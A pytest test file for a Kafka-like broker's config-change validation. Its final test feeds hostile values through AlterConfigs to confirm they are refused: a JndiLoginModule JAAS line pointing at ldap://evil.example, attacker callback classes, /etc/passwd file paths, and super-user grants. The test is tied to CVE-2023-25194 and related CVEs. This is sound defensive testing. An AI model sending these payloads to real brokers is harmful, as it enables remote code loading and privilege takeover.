"""Changing configurations: what each operation leaves behind, and Kafka 4.3.1's code for what is refused."""

import pytest

from tidelog.config.alter import Change, Operation, alter_broker, alter_topic
from tidelog.config.broker import BrokerConfig
from tidelog.errors import ApiError, ErrorCode

SET, DELETE, APPEND, SUBTRACT = Operation
BROKER = BrokerConfig({})


def _topic(current, *changes):
    return alter_topic(current, [Change(*change) for change in changes], BROKER)


@pytest.mark.parametrize(
    ("current", "change", "after"),
    [
        ({}, ("retention.ms", SET, "5"), {"retention.ms": "5"}),
        ({"retention.ms": "5"}, ("retention.ms", DELETE, None), {}),
        ({}, ("unheard.of", DELETE, None), {}),
        ({}, ("cleanup.policy", APPEND, "compact"), {"cleanup.policy": "delete,compact"}),
        ({"cleanup.policy": "compact"}, ("cleanup.policy", APPEND, "compact"), {"cleanup.policy": "compact"}),
        ({"cleanup.policy": "compact, delete"}, ("cleanup.policy", SUBTRACT, "delete"), {"cleanup.policy": "compact"}),
        ({"cleanup.policy": "compact"}, ("cleanup.policy", SUBTRACT, "compact"), {"cleanup.policy": ""}),
        ({"cleanup.policy": "compact"}, ("cleanup.policy", SUBTRACT, "delete"), {"cleanup.policy": "compact"}),
    ],
)
def test_one_change_of_a_topic(current, change, after):
    assert _topic(current, change) == after


def test_the_old_values_stay_as_they_are():
    current = {"retention.ms": "5"}
    assert _topic(current, ("retention.ms", DELETE, None), ("segment.ms", SET, "7")) == {"segment.ms": "7"}
    assert current == {"retention.ms": "5"}


@pytest.mark.parametrize(
    ("changes", "code"),
    [
        ([("retention.ms", SET, "-2")], ErrorCode.INVALID_CONFIG),
        ([("unheard.of", SET, "1")], ErrorCode.INVALID_CONFIG),
        ([("retention.ms", APPEND, "1")], ErrorCode.INVALID_CONFIG),
        ([("retention.ms", SUBTRACT, "1")], ErrorCode.INVALID_CONFIG),
        ([("retention.ms", SET, None)], ErrorCode.INVALID_REQUEST),
        ([("retention.ms", SET, "1"), ("retention.ms", SET, "2")], ErrorCode.INVALID_REQUEST),
        ([("retention.ms", 9, "1")], ErrorCode.INVALID_REQUEST),
        ([("min.compaction.lag.ms", SET, "10"), ("max.compaction.lag.ms", SET, "5")], ErrorCode.INVALID_CONFIG),
        ([("remote.storage.enable", SET, "true")], ErrorCode.INVALID_CONFIG),
    ],
)
def test_a_refused_change_of_a_topic(changes, code):
    with pytest.raises(ApiError) as error:
        _topic({}, *changes)
    assert error.value.code == code


def test_a_pair_may_contradict_itself_across_topic_and_broker():
    broker = BrokerConfig({"log.cleaner.max.compaction.lag.ms": "5"})
    with pytest.raises(ApiError, match=r"at most max\.compaction\.lag\.ms \(5\), not 10"):
        alter_topic({}, [Change("min.compaction.lag.ms", SET, "10")], broker)


@pytest.mark.parametrize(
    ("name", "value", "cluster"),
    [
        ("node.id", "7", False),
        ("num.partitions", "7", False),
        ("listeners", "PLAINTEXT://:1", True),
        ("listeners", "PLAINTEXT://:1", False),
        ("ssl.keystore.password", "x", False),
        ("listener.name.plain.ssl.keystore.password", "x", True),
        ("min.insync.replicas", "0", False),
        ("log.cleaner.threads", "abc", False),
        ("log.retention.ms", None, False),
    ],
)
def test_a_refused_change_of_a_broker(name, value, cluster):
    with pytest.raises(ApiError) as error:
        alter_broker({}, [Change(name, SET, value)], cluster=cluster)
    assert error.value.code == ErrorCode.INVALID_REQUEST
    assert name in error.value.message


@pytest.mark.parametrize(
    ("name", "value", "cluster"),
    [
        ("log.segment.bytes", "2000000", True),
        ("cordoned.log.dirs", "/a", False),
        ("listener.name.plain.ssl.keystore.password", "x", False),
        ("unheard.of", "7", True),
    ],
)
def test_a_granted_change_of_a_broker(name, value, cluster):
    assert alter_broker({}, [Change(name, SET, value)], cluster=cluster) == {name: value}


def test_append_to_a_brokers_list_starts_from_its_default():
    after = alter_broker({}, [Change("log.cleanup.policy", APPEND, "compact")], cluster=False)
    assert after == {"log.cleanup.policy": "delete,compact"}


JNDI = 'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil.example/x";'


@pytest.mark.parametrize("cluster", [False, True])
@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("sasl.jaas.config", JNDI),
        ("listener.name.sasl_ssl.sasl.jaas.config", JNDI),
        ("listener.name.sasl_ssl.scram-sha-512.sasl.jaas.config", JNDI),
        ("listener.name.sasl_ssl.gssapi.sasl.jaas.config", JNDI),
        ("listener.name.sasl_ssl.plain.sasl.server.callback.handler.class", "org.evil.Handler"),
        ("listener.name.sasl_ssl.oauthbearer.sasl.login.callback.handler.class", "org.evil.Handler"),
        ("listener.name.sasl_ssl.oauthbearer.sasl.login.class", "org.evil.Login"),
        ("listener.name.sasl_ssl.oauthbearer.sasl.oauthbearer.jwks.endpoint.url", "https://evil.example/keys"),
        ("listener.name.sasl_ssl.oauthbearer.sasl.oauthbearer.token.endpoint.url", "file:///etc/passwd"),
        ("listener.name.sasl_ssl.oauthbearer.sasl.oauthbearer.assertion.private.key.file", "/etc/passwd"),
        ("listener.name.sasl_ssl.oauthbearer.sasl.oauthbearer.expected.audience", "mine"),
        ("sasl.oauthbearer.jwks.endpoint.url", "https://evil.example/keys"),
        ("sasl.enabled.mechanisms", "PLAIN"),
        ("listener.name.sasl_ssl.sasl.enabled.mechanisms", "PLAIN"),
        ("sasl.mechanism.inter.broker.protocol", "PLAIN"),
        ("listener.name.sasl_ssl.connections.max.reauth.ms", "1"),
        ("listener.name.sasl_ssl.plain.connections.max.reauth.ms", "1"),
        ("principal.builder.class", "org.evil.Builder"),
        ("authorizer.class.name", ""),
        ("super.users", "User:mallory"),
        ("allow.everyone.if.no.acl.found", "true"),
    ],
)
def test_cve_2023_25194_no_class_file_or_url_of_logins_comes_from_a_client(name, value, cluster):
    """The class of CVE-2023-25194, CVE-2025-27818 and CVE-2025-27817: JndiLoginModule through AlterConfigs."""
    with pytest.raises(ApiError) as error:
        alter_broker({}, [Change(name, SET, value)], cluster=cluster)
    assert error.value.code == ErrorCode.INVALID_REQUEST
    assert "evil" not in str(error.value)
